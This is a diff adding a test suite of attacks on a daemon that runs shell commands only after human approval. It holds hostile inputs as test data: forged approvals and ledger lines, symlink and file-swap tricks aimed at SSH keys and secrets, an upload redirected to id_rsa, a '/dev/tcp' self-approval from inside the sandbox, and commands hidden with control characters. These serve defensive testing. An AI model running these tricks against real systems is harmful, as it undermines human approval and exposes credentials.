@@ -1,0 +1,569 @@
+// What somebody who knows the code has tried on a daemon, to have a command run that nobody approved, to make an approval count
+// that nobody gave, or to have another thing run than was approved. Each stood; here they stand on.
+
+import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
+import { planPage } from "../clients/cli/plan_text.ts";
+import { readFullPlan } from "../clients/cli/plan_record.ts";
+import type { Clock } from "../daemon/mod.ts";
+import { printSexp } from "../daemon/wire/printer.ts";
+import { getf, getKeyword, getString, type Value } from "../daemon/wire/value.ts";
+import { type DaemonOptions, type TestDaemon, withDaemon } from "./harness/daemon.ts";
+import { phaseTest } from "./harness/phase.ts";
+import type { Wire } from "./harness/wire.ts";
+
+const AREA = "attacks";
+
+const quoted = (text: string) => printSexp(text);
+const shell = (command: string, more = "", head = "") =>
+  `(:TYPE :REQUEST ${head} :TARGET :SHELL :PAYLOAD (:ACTION :EXECUTE :CMD ${quoted(command)} ${more}))`;
+const system = (action: string, head = "") => `(:TYPE :REQUEST ${head} :TARGET :SYSTEM :PAYLOAD (:ACTION ${action}))`;
+const decision = (verb: string, { id, hash }: Asked) => `:${verb}-PLAN :ID ${quoted(id)} :HASH ${quoted(hash)}`;
+const plan = (state: string, more = "") => `(:TYPE :EVENT :PAYLOAD (:ACTION :PLAN :STATE ${state} ${more}))`;
+const ANSWER = "(:TYPE (OR :RESPONSE :LOG))";
+
+/** A plan that waits, as whoever asked was told of it. */
+interface Asked {
+  readonly id: string;
+  readonly hash: string;
+}
+
+function withShell(body: (daemon: TestDaemon) => Promise<void>, options: DaemonOptions = {}): Promise<void> {
+  return withDaemon({ disk: true, allowLog: [/Commands are not contained/], ...options }, body);
+}
+
+const payload = (message: Value) => getf(message, "PAYLOAD") as Value;
+const codeOf = (message: Value) => getKeyword(payload(message), "CODE");
+
+async function propose(wire: Wire, command: string, more = "", head = ""): Promise<Asked> {
+  await wire.send(shell(command, more, head), { unchecked: true });
+  const heard = payload(await wire.expect(plan(":PLAN", ":ID ?STRING :HASH ?STRING")));
+  return { id: getString(heard, "ID") ?? "", hash: getString(heard, "HASH") ?? "" };
+}
+
+async function ask(wire: Wire, action: string, head = ""): Promise<Value> {
+  await wire.send(system(action, head), { unchecked: true });
+  return await wire.expect(ANSWER);
+}
+
+/** Approves a plan, and returns the state in which it ended. */
+async function approved(wire: Wire, asked: Asked, own = false): Promise<string> {
+  await wire.send(system(decision("APPROVE", asked)));
+  await wire.expect("(:TYPE :RESPONSE :PAYLOAD (:ACTION :APPROVE-PLAN :STATUS :OK))");
+  const ended = await wire.expect(
+    `(:TYPE :EVENT :PAYLOAD (:ACTION :PLAN :ID "${asked.id}" :STATE (OR :DONE :FAILED :INTERRUPTED)))`,
+  );
+  if (own) wire.ignore(plan(":APPROVED"), plan(":RUNNING"), "(:TYPE :RESPONSE :PAYLOAD (:ACTION :EXECUTE))");
+  return getKeyword(payload(ended), "STATE") ?? "";
+}
+
+async function shown(wire: Wire, { id }: Asked): Promise<Value> {
+  return getf(payload(await ask(wire, `:SHOW-PLAN :ID "${id}"`)), "PLAN") as Value;
+}
+
+async function stateOf(wire: Wire, asked: Asked): Promise<string> {
+  return getKeyword(await shown(wire, asked), "STATE") ?? "";
+}
+
+/** Whether runs are contained; the first run finds out. */
+async function isContained(wire: Wire): Promise<boolean> {
+  await wire.send(shell("true"));
+  await wire.expect("(:TYPE :RESPONSE :PAYLOAD (:ACTION :EXECUTE :STATUS :DONE))");
+  return getString(payload(await ask(wire, ":STATUS")), "CONTAINMENT") === "bubblewrap";
+}
+
+const workOf = ({ folders }: TestDaemon) => `${folders.data}/passepartout/work`;
+
+function exists(path: string): Promise<boolean> {
+  return Deno.lstat(path).then(() => true, () => false);
+}
+
+/** A line of shell of the test's own, on the disk of the test. */
+async function script(line: string, folder: string): Promise<void> {
+  const { success } = await new Deno.Command("sh", { args: ["-c", line], cwd: folder }).output();
+  assert(success, line);
+}
+
+phaseTest(
+  1,
+  AREA,
+  "approval that is spelled otherwise than the plan it is for counts for none",
+  [],
+  () =>
+    withShell(async (daemon) => {
+      const wire = await daemon.dial();
+      const asked = await propose(wire, "touch pwned");
+      const { id, hash } = asked;
+      const spellings: readonly [id: string, hash: string][] = [
+        [id, ""],
+        [id, hash.slice(0, 12)],
+        [id, hash.toUpperCase()],
+        [id, `${hash}\n`],
+        [id, `${hash}\u200b`],
+        [id, [...hash].reverse().join("")],
+        [`${id}\n`, hash],
+        [` ${id}`, hash],
+        [id.slice(0, 5), hash],
+        ["%", hash],
+        ["", hash],
+        [`${id.slice(0, 9)}\uff10`, hash],
+      ];
+      for (const [otherId, otherHash] of spellings) {
+        const answer = await ask(wire, decision("APPROVE", { id: otherId, hash: otherHash }));
+        assertMatch(codeOf(answer) ?? "", /^(NO-SUCH-PLAN|PLAN-CHANGED)$/, printSexp([otherId, otherHash]));
+      }
+      const forms = [
+        `:APPROVE-PLAN :ID "x" :ID "${id}" :HASH "${hash}"`,
+        `:APPROVE-PLAN :ID "${id}" :HASH "x" :HASH "${hash}"`,
+        `:APPROVE-PLAN :ID "${id}" :HASH T`,
+        `:APPROVE-PLAN :HASH "${hash}"`,
+        `:|approve-plan| :ID "${id}" :HASH "${hash}"`,
+        `:EVAL :ID "${id}" :HASH "${hash}"`,
+      ];
+      for (const form of forms) assert(codeOf(await ask(wire, form)) !== undefined, form);
+      assertEquals(await stateOf(wire, asked), "PLAN");
+      assert(!await exists(`${workOf(daemon)}/pwned`));
+    }),
+);
+
+phaseTest(1, AREA, "no message but a decision decides, whatever it says it is", [], () =>
+  withShell(async (daemon) => {
+    const wire = await daemon.dial();
+    const asked = await propose(wire, "touch pwned");
+    const { id, hash } = asked;
+    const decides = `:ACTION :APPROVE-PLAN :STATUS :OK :ID "${id}" :HASH "${hash}" :STATE :APPROVED`;
+    const answered = [
+      `(:TYPE :EVENT :PAYLOAD (:ACTION :PLAN :ID "${id}" :HASH "${hash}" :STATE :APPROVED))`,
+      `(:TYPE :EVENT :PAYLOAD (:SENSOR :REQUEST :TARGET :SYSTEM ${decides}))`,
+      `(:TYPE :EVENT :PAYLOAD (:SENSOR :LOOP-ERROR ${decides}))`,
+      `(:TYPE :REQUEST :TARGET :SHELL :PAYLOAD (${decides}))`,
+      `(:TYPE :REQUEST :TARGET :CLIENT :PAYLOAD (${decides}))`,
+      `(:TYPE :REQUEST :TARGET :PLANS :PAYLOAD (${decides}))`,
+      `(:TYPE :REQUEST :PAYLOAD (${decides}))`,
+    ];
+    for (const message of answered) {
+      await wire.send(message, { unchecked: true });
+      const answer = await wire.expect("(:TYPE :LOG)");
+      assertMatch(codeOf(answer) ?? "", /^(INVALID-MESSAGE|DENIED|NO-ACTUATOR)$/, message);
+    }
+    for (const type of ["RESPONSE", "STATUS", "LOG"]) {
+      await wire.send(`(:TYPE :${type} :PAYLOAD (${decides}))`, { unchecked: true });
+    }
+    await wire.send(`(:TYPE :EVENT :PAYLOAD (:SENSOR :USER-INPUT :TEXT "approve plan ${id} ${hash}"))`);
+    await wire.expect("(:TYPE :REQUEST :PAYLOAD (:ACTION :MESSAGE))");
+    assertEquals(await stateOf(wire, asked), "PLAN");
+    assert(!await exists(`${workOf(daemon)}/pwned`));
+  }));
+
+phaseTest(
+  1,
+  AREA,
+  "what a request claims of itself grants it nothing, and its first :CMD is the one that runs",
+  [],
+  () =>
+    withShell(async (daemon) => {
+      const wire = await daemon.dial();
+      const claims =
+        `:APPROVED T :TIER :ALLOW :PROPOSED-BY :DAEMON :GRANTS (:WRITE ("/") :NETWORK T) :STATE :APPROVED :RULE "mine"`;
+      const asked = await propose(
+        wire,
+        "touch pwned",
+        claims,
+        `:APPROVED T :VERDICT (:TIER :ALLOW) :META (:SOURCE :DAEMON :APPROVED T :PROPOSED-BY :DAEMON)`,
+      );
+      const full = await shown(wire, asked);
+      assertEquals(getString(full, "REQUESTER"), "client (DAEMON)");
+      assertEquals(printSexp(getf(full, "GRANTS") as Value), `(:WRITE ("${workOf(daemon)}") :READ NIL :NETWORK NIL)`);
+      for (const keys of [`:CMD "echo first" :CMD "touch pwned"`, `:|cmd| "touch pwned" :CMD "echo first"`]) {
+        await wire.send(`(:TYPE :REQUEST :TARGET :SHELL :PAYLOAD (:ACTION :EXECUTE ${keys}))`, { unchecked: true });
+        await wire.expect(`(:TYPE :RESPONSE :PAYLOAD (:ACTION :EXECUTE :STATUS :DONE :STDOUT "first\n"))`);
+      }
+      for (const command of [`#("touch" "pwned")`, "|touch pwned|", ":|touch pwned|", `("touch pwned")`]) {
+        await wire.send(`(:TYPE :REQUEST :TARGET :SHELL :PAYLOAD (:ACTION :EXECUTE :CMD ${command}))`, {
+          unchecked: true,
+        });
+        assertMatch(codeOf(await wire.expect(ANSWER)) ?? "", /^(INVALID-MESSAGE|DENIED)$/, command);
+      }
+      assert(!await exists(`${workOf(daemon)}/pwned`));
+    }),
+);
+
+phaseTest(
+  1,
+  AREA,
+  "approval that is sent again under its :ID approves no other plan, and runs nothing twice",
+  [],
+  () =>
+    withShell(async (daemon) => {
+      const wire = await daemon.dial();
+      const first = await propose(wire, "echo ran >> first.txt");
+      const second = await propose(wire, "echo ran >> second.txt");
+      const head = `:ID "a" :META (:SESSION-ID "s")`;
+      for (const asked of [first, second, first]) {
+        await wire.send(system(decision("APPROVE", asked), head));
+        await wire.expect(`(:TYPE :RESPONSE :IN-REPLY-TO "a" :PAYLOAD (:STATUS :OK :ID "${first.id}"))`);
+      }
+      for (const state of [":APPROVED", ":RUNNING", ":DONE"]) await wire.expect(plan(state, `:ID "${first.id}"`));
+      await wire.expect("(:TYPE :RESPONSE :PAYLOAD (:ACTION :EXECUTE :STATUS :DONE))");
+      assertEquals(await stateOf(wire, second), "PLAN");
+      assertEquals(await Deno.readTextFile(`${workOf(daemon)}/first.txt`), "ran\n");
+      assert(!await exists(`${workOf(daemon)}/second.txt`));
+    }),
+);
+
+phaseTest(
+  1,
+  AREA,
+  "approvals, denials and cancellations that cross leave one truth",
+  [],
+  () =>
+    withShell(async (daemon) => {
+      const wires = await Promise.all(Array.from({ length: 6 }, () => daemon.dial()));
+      const asker = await daemon.dial();
+      const asked: Asked[] = [];
+      for (const n of [0, 1, 2]) asked.push(await propose(asker, `echo ran >> crossed-${n}.txt`));
+      for (const [n, each] of asked.entries()) {
+        const verbs = ["DENY", "APPROVE", "CANCEL"].map((_, i, all) => all[(i + n) % all.length] as string);
+        const answers = await Promise.all(wires.map(async (wire, i) => {
+          const verb = verbs[i % verbs.length] as string;
+          await wire.send(system(decision(verb, each)));
+          return { verb, won: getf(payload(await wire.expect(ANSWER)), "STATUS") !== undefined };
+        }));
+        const won = answers.filter((answer) => answer.won).map(({ verb }) => verb);
+        // A cancellation can stop what was approved; nothing else counts after another.
+        assert(won.filter((verb) => verb === "APPROVE" || verb === "DENY").length <= 1, won.join(" "));
+        if (!won.includes("APPROVE")) assertEquals(await stateOf(wires[0] as Wire, each), "DENIED");
+      }
+      // Who asked hears of each change, in whatever order.
+      asker.abandon();
+      await daemon.stop();
+      const ledger = (await Deno.readTextFile(`${daemon.stateFolder}/ledger.log`)).split("\n");
+      for (const [n, { id }] of asked.entries()) {
+        const lines = ledger.filter((line) => line.includes(`"plan":"${id}"`));
+        const answers = lines.filter((line) => /"event":"(approve|deny)"/.test(line));
+        assertEquals(answers.length, 1, "one answer a plan is written down");
+        const ran = await Deno.readTextFile(`${workOf(daemon)}/crossed-${n}.txt`).catch(() => "");
+        assertMatch(ran, answers[0]?.includes('"event":"deny"') ? /^$/ : /^(ran\n)?$/);
+      }
+    }),
+);
+
+phaseTest(
+  1,
+  AREA,
+  "plan that the rules of the user refuse by now does not run, approved or not",
+  [],
+  () =>
+    withShell(async (daemon) => {
+      const wire = await daemon.dial();
+      const asked = await propose(wire, "touch pwned");
+      await Deno.mkdir(`${daemon.folders.config}/passepartout`, { recursive: true });
+      await Deno.writeTextFile(
+        `${daemon.folders.config}/passepartout/policy.org`,
+        "* No touching\n:PROPERTIES:\n:TIER: deny\n:MATCHES: command touch **\n:END:\n" +
+          "** Matches\n- touch a\n** Does not match\n- echo a\n",
+      );
+      assertEquals(await approved(wire, asked, true), "INTERRUPTED");
+      assertStringIncludes(getString(await shown(wire, asked), "OUTCOME") ?? "", "the guard refuses it now");
+      assert(!await exists(`${workOf(daemon)}/pwned`));
+    }),
+);
+
+phaseTest(
+  1,
+  AREA,
+  "what a plan would execute by another way than was seen is not executed",
+  [],
+  () =>
+    withShell(async (daemon) => {
+      const { home } = daemon.folders;
+      const evil = "echo evil > pwned\n";
+      const swaps: readonly [name: string, command: string, before: string, after: string][] = [
+        ["link", "sh job.sh", "echo : > a; ln -s a job.sh", `printf '${evil}' > b; ln -sfn b job.sh`],
+        ["mode", "./job.sh", "echo : > job.sh; chmod +x job.sh", `printf '#!/bin/sh\n${evil}' > job.sh`],
+        ["make", "make", "printf 'a:\n\t:\n' > Makefile", "printf 'a:\n\techo > pwned\n' > GNUmakefile"],
+        ["npm", "npm test", "echo '{}' > package.json", "echo 'script-shell=./evil' > .npmrc"],
+        ["gone", "sh job.sh", "true", `printf '${evil}' > job.sh`],
+        ["pipe", "sh job.sh", "echo : > job.sh", "rm job.sh; mkfifo job.sh"],
+      ];
+      await Promise.all(swaps.map(async ([name, command, before, after]) => {
+        const folder = `${home}/${name}`;
+        await Deno.mkdir(folder);
+        await script(before, folder);
+        const wire = await daemon.dial();
+        const asked = await propose(wire, command, `:CWD "${folder}"`);
+        await script(after, folder);
+        assertEquals(await approved(wire, asked, true), "FAILED", name);
+        wire.ignore(plan(":PLAN"));
+        assertStringIncludes(getString(await shown(wire, asked), "OUTCOME") ?? "", "it changed", name);
+        assert(!await exists(`${folder}/pwned`), name);
+      }));
+    }),
+);
+
+phaseTest(
+  1,
+  AREA,
+  "no link, and no other name of a folder, leads a command to what is the daemon's or a key",
+  [],
+  () =>
+    withShell(async (daemon) => {
+      const { home, root } = daemon.folders;
+      await Deno.mkdir(`${home}/.ssh`);
+      await Deno.writeTextFile(`${home}/.ssh/authorized_keys`, "mine\n");
+      await Deno.mkdir(`${daemon.folders.config}/passepartout`, { recursive: true });
+      await script(
+        `mkdir -p memex/system project && echo plans > memex/system/flight-plans.org && cd project &&
+      ln -s ../../state/passepartout/secret s && ln -s ../.ssh/authorized_keys k &&
+      ln -s ../../config/passepartout c && ln -s ../memex m && ln -s .. up && ln -s ../../state/passepartout st`,
+        home,
+      );
+      const wire = await daemon.dial();
+      const commands = [
+        "cat s",
+        `cat /proc/self/root${root}/state/passepartout/secret`,
+        "cp s copy",
+        "ln s hard",
+        "ln up/memex/system/flight-plans.org hard",
+        "echo evil >> k",
+        "echo evil > c/policy.org",
+        "sed -i s/PLAN/APPROVED/ m/system/flight-plans.org",
+        "tee m/system/flight-plans.org",
+        "cd st && cat secret",
+        "cat st/ledger.key",
+      ];
+      const asks = [
+        ...commands.map((command) => shell(command, `:CWD "${home}/project"`)),
+        shell("cat secret", `:CWD "${home}/project/st"`),
+        shell("ls", `:CWD "${home}/project/c"`),
+        shell("touch x", `:CWD "${home}/memex/system"`),
+        shell("touch x", ':CWD "/proc/self/cwd"'),
+        shell("ls", ':CWD "project"'),
+        shell("ls", ':CWD ""'),
+      ];
+      for (const message of asks) {
+        await wire.send(message);
+        const answer = await wire.expect("(:TYPE (OR :RESPONSE :LOG :EVENT))");
+        assertEquals(codeOf(answer), "DENIED", message);
+      }
+      assertEquals(await Deno.readTextFile(`${home}/.ssh/authorized_keys`), "mine\n");
+      assertEquals(await Deno.readTextFile(`${home}/memex/system/flight-plans.org`), "plans\n");
+      assertEquals(await exists(`${daemon.folders.config}/passepartout/policy.org`), false);
+    }),
+);
+
+phaseTest(
+  1,
+  AREA,
+  "upload whose file became a link to a key meanwhile is not made",
+  [],
+  () =>
+    withShell(async (daemon) => {
+      const { home } = daemon.folders;
+      await script("mkdir .ssh project && echo key > .ssh/id_rsa && echo report > project/report.txt", home);
+      const wire = await daemon.dial();
+      const asked = await propose(wire, "curl -sT report.txt http://127.0.0.1:9/", `:CWD "${home}/project"`);
+      await script("ln -sf ../.ssh/id_rsa report.txt", `${home}/project`);
+      assertEquals(await approved(wire, asked, true), "INTERRUPTED");
+      assertMatch(getString(await shown(wire, asked), "OUTCOME") ?? "", /refuses it now.*holds secrets/);
+    }),
+);
+
+phaseTest(
+  1,
+  AREA,
+  "contained run with every folder and the network can not answer a plan",
+  [],
+  () =>
+    withShell(async (daemon) => {
+      const { root, home } = daemon.folders;
+      const wire = await daemon.dial();
+      const victim = await propose(wire, "touch pwned");
+      const [state, config] = [`${root}/state/passepartout`, `${root}/config/passepartout`];
+      await Deno.mkdir(`${home}/memex/system`, { recursive: true });
+      const request = `(:TYPE :REQUEST :TARGET :SYSTEM :PAYLOAD (:ACTION ${decision("APPROVE", victim)}))`;
+      const frame = request.length.toString(16).padStart(6, "0") + request;
+      await Deno.writeTextFile(
+        `${root}/job.sh`,
+        `cat ${state}/secret ${state}/ledger.key && echo BROKE read
+      { echo '* x' > ${config}/policy.org; } 2>/dev/null && echo BROKE policy
+      for each in state state/passepartout config config/passepartout home home/memex home/memex/system; do
+        mv ${root}/$each ${root}/moved && echo BROKE moved $each
+      done
+      { : >> ${home}/memex/system/flight-plans.org; } 2>/dev/null && echo BROKE view
+      ln ${home}/memex/system/* ${root}/hard && echo BROKE link
+      exec 3<>/dev/tcp/127.0.0.1/${daemon.port} || exit
+      printf '%s' '${frame}' >&3
+      timeout 5 cat <&3 | tr '(' '\\n' | grep -o 'CODE :[A-Z-]*'
+      echo through`,
+      );
+      const asked = await propose(wire, "curl -s http://127.0.0.1:9/; bash job.sh", `:CWD "${root}"`);
+      if (!await isContained(wire)) return;
+      await wire.send(system(decision("APPROVE", asked)));
+      await wire.expect("(:TYPE :RESPONSE :PAYLOAD (:ACTION :APPROVE-PLAN :STATUS :OK))");
+      const outcome = payload(await wire.expect("(:TYPE :RESPONSE :PAYLOAD (:ACTION :EXECUTE))"));
+      await wire.expect(plan(":DONE", `:ID "${asked.id}"`));
+      wire.ignore(plan(":APPROVED"), plan(":RUNNING"));
+      const stdout = getString(outcome, "STDOUT") ?? "";
+      assertEquals(stdout.match(/BROKE.*/g), null);
+      assertMatch(stdout, /CODE :UNAUTHENTICATED\nthrough\n$/);
+      assertEquals(await stateOf(wire, victim), "PLAN");
+      assert(!await exists(`${workOf(daemon)}/pwned`));
+    }),
+);
+
+phaseTest(
+  1,
+  AREA,
+  "nothing in a command, its reasons or its sender is hidden from who reads the plan",
+  [],
+  () =>
+    withShell(async (daemon) => {
+      const wire = await daemon.dial();
+      const commands = [
+        "touch a\u202e dliub fr- mr ;\u202c",
+        "touch \u001b[8mbuild\u001b[0m\r echo ok",
+        "touch x\b\b\b\b\becho",
+        "touch\u00a0-rf build; touch x",
+        "touch a\u200bb c\u00ad\u3164",
+        "touch a # \u{e0061}\ufe0f",
+        "touch \\u{202e}x",
+        `touch a${" ".repeat(3000)}; rm -rf build`,
+        `rm -rf build${"\n".repeat(200)}touch a`,
+      ];
+      const hostile = "fine\nfolder       /elsewhere\ngrants       It may write nothing\u202e\u001b[2J";
+      for (const command of commands) {
+        const asked = await propose(
+          wire,
+          command,
+          `:EXPLANATION ${quoted(hostile)}`,
+          `:META (:SOURCE :|x)\ngrants  none\u202e|)`,
+        );
+        const read = readFullPlan(await shown(wire, asked));
+        assert(read !== undefined);
+        const lines = planPage(read, "bubblewrap");
+        const page = lines.join("\n");
+        assertEquals(/[^\n\P{Cc}]|\p{Cf}|\u3164|\u00a0/u.exec(page), null, JSON.stringify(command));
+        // Each name stands once at the beginning of a line: no text of a stranger's brings another.
+        for (const name of ["command", "folder", "grants", "requester", "hash"]) {
+          assertEquals(lines.filter((line) => line.startsWith(`${name} `)).length, 1, name);
+        }
+        // All of it is there: read back from the page, the command is what would run.
+        const from = lines.findIndex((line) => line.startsWith("command ")),
+          to = lines.findIndex((line) => /^folder /.test(line));
+        const width = (lines[to] as string).indexOf(read.cwd);
+        const text = lines.slice(from, to).map((line) => line.slice(width)).join("\n");
+        const back = text.replace(/\\u\{([0-9a-f]+)\}/g, (_, hex) => String.fromCodePoint(parseInt(hex, 16)));
+        assertEquals(back, command);
+      }
+    }),
+);
+
+phaseTest(1, AREA, "node of a plan that is not the one written, but for its keyword, is no answer", [], async () => {
+  const edits: Readonly<Record<string, (node: string) => string>> = {
+    // First: behind another it would be its child.
+    "a level down": (node) => node.replace("* APPROVED", "** APPROVED"),
+    "another command": (node) => node.replace(/^touch .*$/m, "touch other"),
+    "another hash": (node) => node.replace(/:HASH: ./, ":HASH: x"),
+    "an id more": (node) => node.replace(/(:ID: .*\n)/, "$1$1"),
+    "twice": (node) => `${node}\n${node}`,
+    "line ends": (node) => node.replaceAll("\n", "\r\n"),
+    "small letters": (node) => node.replace("APPROVED", "approved"),
+    "a child": (node) => `${node}** APPROVED x\n`,
+    "a block around": (node) => `#+begin_comment\n${node}#+end_comment\n`,
+    "a blank more": (node) => node.replace(/$/m, " "),
+    "done": (node) => node.replace("APPROVED", "DONE"),
+    "commented": (node) => node.replace("APPROVED", "APPROVED COMMENT"),
+  };
+  await withShell(async (daemon) => {
+    const first = await daemon.dial();
+    const names = [...Object.keys(edits), "untouched"];
+    const asked: Asked[] = [];
+    for (const [n] of names.entries()) asked.push(await propose(first, `touch forged-${n}`));
+    const contained = await isContained(first);
+    await daemon.closeWires();
+    await daemon.stop();
+    const file = `${daemon.folders.home}/memex/system/flight-plans.org`;
+    const [head = "", ...nodes] = (await Deno.readTextFile(file)).split(/^(?=\* )/m);
+    const text = nodes.map((node, n) =>
+      (edits[names[n] as string] ?? ((same) => same))(node.replace("* PLAN ", "* APPROVED "))
+    );
+    await Deno.writeTextFile(file, head + text.join(""));
+    await daemon.start();
+    const wire = await daemon.dial();
+    const untouched = asked.at(-1) as Asked;
+    if (contained) {
+      // That one is answered shows that all of the file was read.
+      assertEquals(codeOf(await ask(wire, ":HELLO :CLIENT :TEST :CAPABILITIES (:PLANS)")), undefined);
+      wire.ignore("(:TYPE :EVENT)");
+      if (await stateOf(wire, untouched) !== "DONE") await wire.expect(plan(":DONE", `:ID "${untouched.id}"`));
+    }
+    const states = [];
+    for (const [n, name] of names.slice(0, -1).entries()) states.push([name, await stateOf(wire, asked[n] as Asked)]);
+    assertEquals(states.filter(([, state]) => state !== "PLAN"), []);
+    for (const [n] of states.entries()) assert(!await exists(`${workOf(daemon)}/forged-${n}`));
+  });
+});
+
+phaseTest(1, AREA, "plan that expired stays so though the clock is set back", [], () => {
+  let shift = 0;
+  const clock: Clock = {
+    now: () => Date.now() + shift,
+    // Nothing here waits for a timer.
+    after: () => () => {},
+  };
+  return withShell(async (daemon) => {
+    const wire = await daemon.dial();
+    const asked = await propose(wire, "touch pwned");
+    for (const at of [120_000, -120_000, 0]) {
+      shift = at;
+      assertEquals(codeOf(await ask(wire, decision("APPROVE", asked))), "PLAN-RESOLVED");
+    }
+    await wire.expect(plan(":EXPIRED"));
+    assertEquals(await stateOf(wire, asked), "EXPIRED");
+    assert(!await exists(`${workOf(daemon)}/pwned`));
+  }, { clock, config: { planExpiryMs: 60_000 } });
+});
+
+phaseTest(
+  1,
+  AREA,
+  "ledger or store put back from an older copy, and a line put in, are told",
+  [],
+  () =>
+    withShell(async (daemon) => {
+      const names = ["ledger.log", "passepartout.db"];
+      const copies = new Map<string, Uint8Array>();
+      const first = await daemon.dial();
+      const asked = await propose(first, "touch pwned");
+      await daemon.closeWires();
+      await daemon.stop();
+      for (const name of names) copies.set(name, await Deno.readFile(`${daemon.stateFolder}/${name}`));
+      await daemon.start();
+      const second = await daemon.dial();
+      assertEquals(codeOf(await ask(second, decision("DENY", asked))), undefined);
+      await daemon.closeWires();
+      await daemon.stop();
+      const now = new Map<string, Uint8Array>();
+      for (const name of names) now.set(name, await Deno.readFile(`${daemon.stateFolder}/${name}`));
+      const line = new TextDecoder().decode(now.get("ledger.log")).trimEnd().split("\n").at(-1) ?? "";
+      const forged = new TextEncoder().encode(`${line.replace('"deny"', '"approve"').replace("DENIED", "APPROVED")}\n`);
+      const attacks: readonly (readonly [string, ReadonlyMap<string, Uint8Array>])[] = [
+        ["old ledger", new Map([["ledger.log", copies.get("ledger.log") as Uint8Array]])],
+        ["old store", new Map([["passepartout.db", copies.get("passepartout.db") as Uint8Array]])],
+        ["line more", new Map([["ledger.log", new Uint8Array([...now.get("ledger.log") as Uint8Array, ...forged])]])],
+      ];
+      for (const [what, files] of attacks) {
+        for (const [name, bytes] of [...now, ...files]) await Deno.writeFile(`${daemon.stateFolder}/${name}`, bytes);
+        for (const end of ["wal", "shm"]) {
+          await Deno.remove(`${daemon.stateFolder}/passepartout.db-${end}`).catch(() => {});
+        }
+        await daemon.start();
+        const wire = await daemon.dial();
+        const told = payload(await ask(wire, ":VERIFY-LEDGER"));
+        assertEquals(getf(told, "WHOLE"), null, what);
+        await daemon.closeWires();
+        await daemon.stop();
+      }
+      assert(!await exists(`${workOf(daemon)}/pwned`));
+    }, { allowLog: [/not contained/, /Ledger looked at/] }),
+);
